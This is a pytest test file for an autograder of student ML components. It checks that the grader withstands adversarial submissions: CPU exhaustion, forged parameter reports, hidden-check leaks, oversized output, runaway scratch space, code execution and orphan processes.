def test_a_correct_reward_model_with_names_nn_module_accepts_is_graded_in_full(batches, student):
    """Parameters named "0.weight" (nn.Sequential) or "é" and "tête de lecture.weight": any name
    nn.Module accepts crosses the protocol; "crashed" with "not (name, shape, dtype)" was the bug."""
    batch = batches("components")
    row = batch.rows.get(student)
    assert row and row["status"] == "graded", batch.why()
    assert [row[c] for c in ("reward.loss_sanity", "reward.reads_last_real_token", "reward.loss_matches_solution")] \
        == ["2", "2", "1"], row


def test_no_student_can_slow_another_into_a_timeout(batches):
    """exhaust_cpu_sessions spins in dozens of processes, each in a session of its own (where the kernel
    gives each session a share of the CPU), while exhaust_cpu_victim, correct in seven components, is graded
    beside it (--workers 2): in a cgroup per child their processes share one weight, and the victim's
    --timeout counts its own CPU time, which does not run while it waits: it never times out, and is not
    graded again. Without cgroups (TOOLKIT_CGROUP=off) it times out beside it, and is graded again alone."""
    from toolkit.grading import cgroup

    batch = batches("components")
    row = batch.rows.get("exhaust_cpu_victim")
    assert row and row["status"] == "graded" and float(row["total"]) == COMPONENTS_FULL, (row, batch.why())
    if cgroup.mode():
        assert "exhaust_cpu_victim: timed out" not in batch.stderr, batch.why()


def test_a_block_and_an_optimizer_that_hide_from_the_checks_fail_them_under_grade(batches):
    """Issue 31 for the block and the optimizer, under ``toolkit grade``: forge_child_side_block's γ starts
    at 0 and its child reports γ = 1 through graders.block.initial_norms, which it replaced; the grader reads
    the block's own parameters instead (``Context.initial_parameters``). forge_context_block is post-norm
    only while the pipeline trains (gradients on, float32, width 64 and more: the modes cross the pipe to the
    child), forge_context_optimizer wrong only on a GPT's parameters in float32: each fails the checks that
    now run there."""
    batch = batches("components")
    rows = {s: batch.rows.get(s) or {}
            for s in ("forge_child_side_block", "forge_context_block", "forge_context_optimizer")}
    assert rows["forge_child_side_block"].get("block.parameters") == "0", (rows, batch.why())
    assert "γ initialised to zero" in _page(batch, "forge_child_side_block")
    assert [rows["forge_context_block"].get(c) for c in ("block.matches_reference", "block.gradients")] \
        == ["0", "0"], rows
    assert [rows["forge_context_optimizer"].get(c) for c in ("optimizer.adamw_update", "optimizer.adamw_state")] \
        == ["0", "0"], rows


def test_views_that_would_grow_when_copied_are_refused_by_the_grader(batches):
    batch = batches("components")
    page = _page(batch, "exhaust_stride0_views")
    assert "backed by 8 bytes" in page, page[-1500:]  # and the grader's memory stays bounded (test below)


def test_hidden_checks_are_not_listed_on_feedback_pages_and_hook_errors_in_them_stay_generic(batches):
    batch = batches("main")
    for student in ("good_file", "escape_hidden_inputs", "inject_exception_text", "forge_wrong_values"):
        page = _page(batch, student)
        assert page, batch.why()
        assert "random_shapes" not in page, f"{student}: a hidden check is listed before it is published"
        assert "hidden" in page.lower(), f"{student}: the page does not say that hidden checks exist"
    results = batch.out / "gradescope" / "escape_hidden_inputs" / "results.json"
    hidden = [t for t in json.loads(results.read_text())["tests"] if t["visibility"] == "after_published"]
    assert hidden and all(HIDDEN_LEAK not in t["output"] and "ValueError" not in t["output"] for t in hidden), hidden


# -- the grader's resources --------------------------------------------------------------------------
@pytest.mark.parametrize("name", BATCHES)
def test_each_student_folder_stays_under_its_cap_with_no_png_from_the_child(batches, name):
    batch = batches(name)
    assert batch.out.exists(), batch.why()
    over, pngs = [], []
    for kind in ("feedback", "gradescope"):
        for folder in (batch.out / kind).glob("*") if (batch.out / kind).exists() else []:
            size = sum(p.stat().st_size for p in folder.rglob("*") if p.is_file() and not p.is_symlink())
            if size >= STUDENT_CAP:
                over.append(f"{kind}/{folder.name}: {size >> 20} MB")
            pngs += [f"{kind}/{folder.name}/{p.name}" for p in folder.rglob("*") if p.name in CHILD_PNGS]
            index = folder / "index.html"
            if index.is_file() and index.stat().st_size < 50 << 20:
                for blob in _decoded(index.read_bytes()):
                    if blob.startswith(b"\x89PNG\r\n\x1a\n\0\0\0\0") or CANARY.encode() in blob:
                        pngs.append(f"{kind}/{folder.name}/index.html embeds a PNG the child wrote")
    assert not over, over
    assert not pngs, pngs[:10]


@pytest.mark.parametrize("name", BATCHES)
def test_the_grader_memory_stays_bounded(batches, name):
    batch = batches(name)
    assert batch.peak_rss_mb < GRADER_RSS_MB, f"the grader's resident memory reached {batch.peak_rss_mb} MB"
    assert "MemoryError" not in batch.stderr and "Cannot allocate memory" not in batch.stderr, batch.why()


def test_scratch_space_is_capped(batches):
    batch = batches("main")
    texts = [_page(batch, "exhaust_scratch_2gib")]
    results = batch.out / "gradescope" / "exhaust_scratch_2gib" / "results.json"
    texts += [results.read_text()] if results.exists() else []
    written = [int(n) for t in texts for n in re.findall(r"scratch-written=(\d+) MiB", t)]
    assert all(n < 2048 for n in written), f"the child wrote {max(written)} MiB into its scratch space"


@pytest.mark.parametrize("name", BATCHES)
def test_no_grading_box_is_left_behind(batches, name):
    batch = batches(name)
    left = [p.name for p in (batch.base / "tmp").glob("toolkit-grade-*")]
    ours = {p.name for p in batch.klass.iterdir()}
    left += [str(p) for p in Path("/tmp").glob("toolkit-grade-*/submission/*") if p.name in ours]
    assert not left, left


def test_no_process_is_left_behind(batches):
    batches("stop")
    time.sleep(1)
    alive = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if ORPHAN.encode() in cmdline.read_bytes():
                alive.append(cmdline.parent.name)
        except OSError:
            continue
    for pid in alive:  # what stop_orphan started and the grader left: end it here, by pid
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    assert not alive, f"stop_orphan's daemon outlived the batch (pids {alive})"


def test_nothing_the_child_sent_ran_code_in_the_grader(batches):
    batches("main")
    assert not REDUCE_MARKER.exists()


def test_a_rerun_after_a_crash_finishes(batches):
    """The stop batch graded again into the same folder: what is in the store is not graded again,
    what is not (a grader that died half-way) is, and the batch ends with every row."""
    first = batches("stop")
    again = grade(first.base, first.klass, first.out, "stop (again)", timeout=150)
    assert not again.hung and again.returncode == 0, again.why()
    assert sorted(again.rows) == first.students and (first.out / "summary.html").exists(), again.why()
